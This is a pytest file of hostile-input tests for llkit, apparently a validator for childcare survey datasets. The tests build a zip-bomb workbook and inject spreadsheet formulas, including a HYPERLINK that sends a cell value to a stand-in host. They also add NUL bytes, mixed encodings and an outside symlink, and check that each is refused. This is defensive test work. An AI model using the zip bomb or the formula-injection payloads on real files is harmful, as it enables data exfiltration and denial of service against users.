"""Attack 3: hostile files. Each must be refused (exit 2, the file named, what to do),
without a traceback, within 60 s and 2 GB; formula-like text never reaches an Excel file
llkit writes as a formula."""

from __future__ import annotations

import os
import zipfile
from pathlib import Path

import openpyxl
import pytest
from _harness import assert_refused, run_cli
from conftest import META, make_tables, write_dataset


def _workbook(path: Path, tables: dict | None = None, meta: dict | None = None) -> Path:
    """The valid test dataset as one .xlsx workbook (a `dataset` sheet + one per table)."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "dataset"
    ws.append(["key", "value"])
    for k, v in (meta or {"name": "Testkommune", "sector": "dagtilbud", "rounds": "T1, T2",
                          "min_n": 3}).items():
        ws.append([k, v])
    for name, frame in (tables or make_tables()).items():
        sheet = wb.create_sheet(name)
        sheet.append(list(frame.columns))
        for row in frame.itertuples(index=False):
            sheet.append(list(row))
    wb.save(path)
    return path


# ------------------------------------------------------------------ workbooks


def test_xlsx_zip_bomb_is_refused_before_it_is_unpacked(tmp_path):
    """A few-MB workbook whose responses sheet unpacks to ~1 GB of XML."""
    good = _workbook(tmp_path / "good.xlsx")
    bomb = tmp_path / "bomb.xlsx"
    row = b'<row><c t="inlineStr"><is><t>T1</t></is></c><c><v>1</v></c></row>' * 1000
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename.endswith("sheet6.xml"):   # responses (dataset=1, units=2, ...)
                with dst.open(info.filename, "w", force_zip64=True) as fh:
                    fh.write(b'<?xml version="1.0"?><worksheet xmlns="http://schemas.'
                             b'openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
                    for _ in range(10_000):               # 10,000 x 67 kB = ~670 MB
                        fh.write(row)
                    fh.write(b"</sheetData></worksheet>")
            else:
                dst.writestr(info, data)
    assert bomb.stat().st_size < 20 * 1024**2
    run = run_cli("validate", str(bomb))
    assert_refused(run, names="bomb.xlsx", says=("unpack",))


@pytest.mark.parametrize("formula", ['=HYPERLINK("http://example.invalid/?x="&B2,"C001")',
                                     "=1+1"])
def test_formula_cells_in_id_columns_are_refused(tmp_path, formula):
    tables = make_tables()
    tables["children"].loc[0, "child_id"] = formula
    tables["responses"].loc[tables["responses"]["child_id"] == "C001", "child_id"] = formula
    wb = _workbook(tmp_path / "formula.xlsx", tables)
    run = run_cli("validate", str(wb))
    assert_refused(run, names="formula.xlsx", says=("formula", "child_id"))


# ------------------------------------------------------------------ CSV files


def _replace(path: Path, name: str, content: bytes) -> Path:
    (path / name).write_bytes(content)
    return path


def test_nul_bytes_in_a_csv_are_refused(tmp_path):
    ds = write_dataset(tmp_path / "ds")
    raw = (ds / "units.csv").read_bytes()
    _replace(ds, "units.csv", raw.replace(b"Stue A", b"Stue\x00A"))
    assert_refused(run_cli("validate", str(ds)), names="units.csv", says=("NUL",))


def test_a_50_mb_single_line_is_refused(tmp_path):
    ds = write_dataset(tmp_path / "ds")
    with open(ds / "children.csv", "ab") as fh:
        fh.write(b"C999," + b"x" * (50 * 1024**2) + b"\n")
    assert_refused(run_cli("validate", str(ds)), names="children.csv")


def test_mixed_encodings_in_one_file_are_refused_or_read_right(tmp_path):
    """UTF-8 on one line and Windows-1252 on another: never silent mojibake."""
    ds = write_dataset(tmp_path / "ds")
    text = (ds / "units.csv").read_text(encoding="utf-8")
    lines = text.splitlines(keepends=True)
    mixed = "".join(lines[:3]).encode("utf-8") + "".join(lines[3:]).encode("cp1252")
    _replace(ds, "units.csv", mixed)
    run = run_cli("validate", str(ds))
    assert_refused(run, names="units.csv", says=("encoding",))


def test_symlink_pointing_outside_the_dataset_is_refused(tmp_path):
    outside = tmp_path / "secret"
    outside.mkdir()
    (outside / "children.csv").write_text("child_id,name\nC001,Anna Hansen\n", encoding="utf-8")
    ds = write_dataset(tmp_path / "ds")
    (ds / "children.csv").unlink()
    os.symlink(outside / "children.csv", ds / "children.csv")
    run = run_cli("validate", str(ds))
    assert_refused(run, names="children.csv", says=("link",))


@pytest.mark.parametrize("header", ["department_id,department_id", "department_id,Department_ID",
                                    "department_id, department_id "])
def test_duplicate_and_variant_column_names_are_refused(tmp_path, header):
    ds = write_dataset(tmp_path / "ds")
    lines = (ds / "units.csv").read_text(encoding="utf-8").splitlines()
    first, second = header.split(",")
    lines[0] = lines[0].replace("department_id", first, 1) + "," + second
    lines[1:] = [line + ",X" for line in lines[1:]]
    _replace(ds, "units.csv", ("\n".join(lines) + "\n").encode("utf-8"))
    assert_refused(run_cli("validate", str(ds)), names="units.csv", says=("department_id",))


@pytest.mark.parametrize("value", ["1", "2", "-1", '"5"', "5.5", "true"])
def test_min_n_that_would_show_single_children_is_refused(tmp_path, value):
    meta = META.replace("min_n = 3", f"min_n = {value}")
    ds = write_dataset(tmp_path / "ds", meta=meta)
    assert_refused(run_cli("validate", str(ds)), names="dataset.toml", says=("min_n",))


def test_min_n_in_a_workbook_is_checked_the_same_way(tmp_path):
    wb = _workbook(tmp_path / "m.xlsx", meta={"name": "K", "sector": "dagtilbud",
                                               "rounds": "T1, T2", "min_n": 1})
    assert_refused(run_cli("validate", str(wb)), names="m.xlsx", says=("min_n",))


# ------------------------------------------------------------------ Excel output


@pytest.mark.parametrize("rounds", ['=HYPERLINK("http://example.invalid","T1")', "=1+1",
                                    "T1,@SUM(A1)", "T1,+1+1", "T1,-2+3"])
def test_template_never_writes_a_formula_from_user_text(tmp_path, rounds):
    out = tmp_path / "t.xlsx"
    run = run_cli("template", str(out), "--rounds", rounds)
    if run.returncode == 2:
        assert "Traceback" not in run.output and "round" in run.output.lower()
        assert not out.exists()
        return
    assert run.returncode == 0, run.output
    wb = openpyxl.load_workbook(out)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate)
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
